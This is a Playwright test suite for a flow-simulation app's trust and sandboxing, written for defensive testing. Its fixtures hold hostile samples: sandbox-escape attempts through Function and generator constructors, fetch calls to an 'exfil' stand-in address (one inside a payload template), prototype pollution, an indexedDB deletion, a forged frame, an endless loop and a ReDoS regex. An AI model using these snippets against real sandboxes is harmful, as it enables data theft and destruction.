import { expect, test, type Request } from '@playwright/test';
import { AppPage } from './pages/AppPage';

const ATTEMPTS = `
function attempt(ctx, name, f) {
  try {
    f();
    ctx.log(name + ': ran');
  } catch (error) {
    ctx.log(name + ': blocked');
  }
}
function handle(event, ctx) {
  attempt(ctx, 'Function constructor', () => (function () {}).constructor('return this')().fetch('http://127.0.0.1:9/exfil'));
  attempt(ctx, 'generator constructor', () => Object.getPrototypeOf(function* () {}).constructor('return this')());
  attempt(ctx, 'ctx escape', () => ctx.log.constructor('return this')().postMessage({ kind: 'frame', frame: { cursor: 999999, head: 999999 } }));
  attempt(ctx, 'fetch', () => fetch('http://127.0.0.1:9/exfil'));
  attempt(ctx, 'prototype', () => { Array.prototype.reduce = () => 42; });
  attempt(ctx, 'clock', () => Date.now());
  attempt(ctx, 'randomness', () => Math.random());
  ctx.state.seen = (ctx.state.seen ?? 0) + 1;
}
`;

/** A flow someone else wrote: a handler and a template that try every way out they can. */
function maliciousFlow(): string {
  return JSON.stringify({
    format: 'tidemark-flow',
    version: 1,
    name: 'Free analytics',
    seed: 3,
    nodes: [
      {
        id: 'trudy',
        kind: 'producer',
        name: 'Trudy',
        eventType: 'Visit',
        rate: 2,
        payload: {
          page: "{{ (() => { try { (function () {}).constructor('return fetch')()('http://127.0.0.1:9/exfil'); return 'ran'; } catch (e) { return 'blocked'; } })() }}",
        },
      },
      { id: 'visits', kind: 'topic', name: 'visits' },
      { id: 'mallory', kind: 'consumer', name: 'Mallory', latencyMs: 10 },
      { id: 'eve', kind: 'consumer', name: 'Eve', latencyMs: 10 },
    ],
    edges: [
      { id: 'trudy-visits', source: 'trudy', target: 'visits' },
      { id: 'visits-mallory', source: 'visits', target: 'mallory' },
      { id: 'visits-eve', source: 'visits', target: 'eve' },
    ],
    schemas: {},
    code: {
      mallory: ATTEMPTS,
      eve: "indexedDB.deleteDatabase('tidemark');\nfunction handle(event, ctx) {}",
    },
    layout: { trudy: { x: 0, y: 0 }, visits: { x: 260, y: 0 }, mallory: { x: 520, y: -80 }, eve: { x: 520, y: 80 } },
  });
}

/** A flow whose handler would throw the moment its top level is evaluated. */
function tellTaleFlow(): string {
  return JSON.stringify({
    format: 'tidemark-flow',
    version: 1,
    name: 'Tell-tale',
    seed: 1,
    nodes: [
      { id: 'p', kind: 'producer', name: 'Source', eventType: 'Ping', rate: 1, payload: { n: '{{ seq }}' } },
      { id: 't', kind: 'topic', name: 'pings' },
      { id: 'c', kind: 'consumer', name: 'Listener', latencyMs: 10 },
    ],
    edges: [
      { id: 'p-t', source: 'p', target: 't' },
      { id: 't-c', source: 't', target: 'c' },
    ],
    schemas: {},
    code: { c: "throw new Error('the top level ran');\nfunction handle(event, ctx) {}" },
    layout: { p: { x: 0, y: 0 }, t: { x: 260, y: 0 }, c: { x: 520, y: 0 } },
  });
}

test.describe('trust: a flow from anyone runs nothing until trusted, then runs where it reaches nothing', () => {
  test('a flow opened from a file shows its code and runs none of it; Play asks first, and only Trust runs it', async ({
    page,
  }) => {
    const app = new AppPage(page);
    await app.goto();
    await app.toolbar.openFlowFile('tell-tale.tidemark.json', tellTaleFlow());
    await expect(app.toolbar.flowName).toHaveText('Tell-tale');
    await expect(app.trust.restrictedBanner).toContainText('None of this flow’s code has run');

    // Its code can be read, and is only parsed: the throw at its top level has not happened.
    await app.canvas.selectNode('consumer', 'Listener');
    await expect(app.inspector.root.getByText(/Handler does not compile/)).toHaveCount(0);

    await app.toolbar.playButton.click();
    await expect(app.trust.trustDialog).toBeVisible();
    await expect(app.trust.trustDialog.getByRole('list', { name: 'Code this flow carries' })).toContainText(
      'Handler and decider code: Listener',
    );
    await expect(app.trust.trustDialog.getByRole('list', { name: 'Code this flow carries' })).toContainText(
      'Payload and key templates: Source',
    );
    await app.trust.trustDialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(app.trust.trustDialog).toHaveCount(0);
    await expect(app.toolbar.statusText).toHaveText(/^Step 0 of 0 · /);

    await app.toolbar.playButton.click();
    await app.trust.trustDialog.getByRole('button', { name: 'Trust and play' }).click();
    await expect(app.toolbar.pauseButton).toBeVisible();
    await expect(app.inspector.root.getByRole('alert')).toHaveText('Handler does not compile: the top level ran');
    await expect(app.trust.restrictedBanner).toHaveCount(0);
    await app.toolbar.waitForHead(3);
    await app.toolbar.pauseAndSettle();

    // Trust is remembered with the flow.
    await app.reload();
    await expect(app.toolbar.root.getByText('Trusted', { exact: true })).toBeVisible();
  });

  test('a malicious flow, once trusted, makes no request, forges nothing and leaves storage intact', async ({
    page,
    context,
  }) => {
    const requests: Request[] = [];
    context.on('request', (request) => requests.push(request));
    const app = new AppPage(page);
    await app.goto();
    await app.toolbar.openFlowFile('free-analytics.tidemark.json', maliciousFlow());
    await expect(app.toolbar.flowName).toHaveText('Free analytics');
    await app.canvas.selectNode('consumer', 'Eve');
    // Parsed, not run: a name its sandbox does not offer is named before anything runs.
    await expect(app.inspector.root.getByRole('alert')).toHaveText(
      'Handler does not compile: ReferenceError: indexedDB is not defined (line 1)',
    );
    await app.trust.trustFlow();

    for (let i = 0; i < 8; i++) await app.toolbar.step();
    await expect(app.toolbar.statusText).toHaveText(/^Step 8 of 8 · /);
    const log = await app.log.readTail();
    const mallory = log.filter((line) => line.node === 'Mallory');
    expect(mallory.length).toBeGreaterThan(0);
    const lines = await Promise.all(mallory.map((line) => app.log.row(line.step).textContent()));
    for (const text of lines) {
      for (const name of [
        'Function constructor',
        'generator constructor',
        'ctx escape',
        'fetch',
        'prototype',
        'clock',
        'randomness',
      ])
        expect(text).toContain(`${name}: blocked`);
      expect(text).not.toContain(': ran');
    }
    await expect(app.log.rows().filter({ hasText: 'Visit' }).first()).toBeVisible();
    await app.canvas.selectNode('producer', 'Trudy');
    // No frame forged: the toolbar shows the engine's own count, never the 999999 the handler tried to post.
    await expect(app.toolbar.statusText).toHaveText(/^Step 8 of 8 · /);
    const paused = await app.toolbar.status();

    // Nothing left this page: every request went to the app's own origin, none to the exfiltration address.
    const origin = new URL(page.url()).origin;
    expect(requests.filter((r) => new URL(r.url()).origin !== origin).map((r) => r.url())).toEqual([]);
    expect(requests.filter((r) => r.url().includes('exfil'))).toEqual([]);

    // Storage intact: the database is there at its own version, and a reload restores the run as it was.
    expect(
      await page.evaluate(async () => (await indexedDB.databases()).map((d) => `${d.name}@${d.version}`)),
    ).toContain('tidemark@2');
    await app.reload();
    await expect(app.toolbar.flowName).toHaveText('Free analytics');
    await expect(app.toolbar.statusText).toHaveText(paused.text);
  });

  test('a handler with an endless loop fails its deliveries, naming the loop, and the app stays responsive', async ({
    page,
  }) => {
    const app = new AppPage(page);
    await app.goto();
    const flow = JSON.parse(tellTaleFlow()) as { code: Record<string, string>; name: string };
    flow.name = 'Spinner';
    flow.code.c = 'function handle(event, ctx) { while (true) {} }';
    await app.toolbar.openFlowFile('spinner.tidemark.json', JSON.stringify(flow));
    await app.trust.trustFlow();
    for (let i = 0; i < 3; i++) await app.toolbar.step();
    await expect(app.canvas.nodeCard('consumer', 'Listener')).toContainText(/failed\s*1/);
    await expect(app.log.rows().filter({ hasText: 'stopped after 10,000,000 loop iterations' }).first()).toBeVisible();
  });

  test('a flow whose code hangs as it loads cannot lock the app out: it reopens restricted, saying why', async ({
    page,
  }) => {
    test.setTimeout(90_000);
    const app = new AppPage(page);
    await app.goto();
    const flow = JSON.parse(tellTaleFlow()) as { code: Record<string, string>; name: string };
    flow.name = 'Hangs on load';
    // Backtracks for ever at the top level: no loop for the sandbox to count, so only the watchdog ends it.
    flow.code.c = "/^(a+)+$/.test('a'.repeat(40) + 'b');\nfunction handle(event, ctx) {}";
    await app.toolbar.openFlowFile('hangs.tidemark.json', JSON.stringify(flow));
    await expect(app.toolbar.flowName).toHaveText('Hangs on load');
    await app.toolbar.root.getByRole('button', { name: 'Restricted mode' }).click();
    await app.trust.trustDialog.getByRole('button', { name: 'Trust', exact: true }).click();

    await expect(app.alerts.filter({ hasText: 'while compiling the flow you had just trusted' })).toBeVisible({
      timeout: 30_000,
    });
    await expect(
      app.alerts.filter({ hasText: /stopped last time while running "Hangs on load"'s code.*restricted mode/ }),
    ).toBeVisible({ timeout: 15_000 });
    await expect(app.trust.restrictedBanner).toBeVisible();

    // Every later visit opens, restricted, and the way out works: another flow replaces it.
    await app.reload();
    await expect(app.toolbar.flowName).toHaveText('Hangs on load');
    await expect(app.trust.restrictedBanner).toBeVisible();
    await app.goto('/?example=orders');
    await expect(app.toolbar.flowName).toHaveText('Orders');
    await app.toolbar.setSpeed('100×');
    await app.toolbar.play();
    await app.toolbar.waitForHead(5);
  });

  test('opening an example over a stored run asks first; keeping it changes nothing', async ({ page }) => {
    const app = new AppPage(page);
    await app.goto();
    await app.toolbar.setSpeed('100×');
    await app.toolbar.play();
    await app.toolbar.waitForHead(10);
    const paused = await app.toolbar.pauseAndSettle();

    await app.goto('/?example=consumer-group');
    await expect(app.trust.replaceDialog).toContainText(
      /^Replace “Orders”\?The example "consumer-group" opens in place of “Orders”: its run \([\d,]+ steps on 1 branch\) would be deleted/,
    );
    await app.trust.answerReplace('Keep');
    await expect(app.toolbar.flowName).toHaveText('Orders');
    await expect(app.toolbar.statusText).toHaveText(paused.text);
    await app.reload();
    await expect(app.toolbar.flowName).toHaveText('Orders');
    await expect(app.toolbar.statusText).toHaveText(paused.text);

    await app.goto('/?example=consumer-group');
    await app.trust.answerReplace('Replace it');
    await expect(app.toolbar.flowName).toHaveText('Consumer group rebalance');
    await expect(app.toolbar.statusText).toHaveText(/^Step 0 of 0 · /);
  });
});
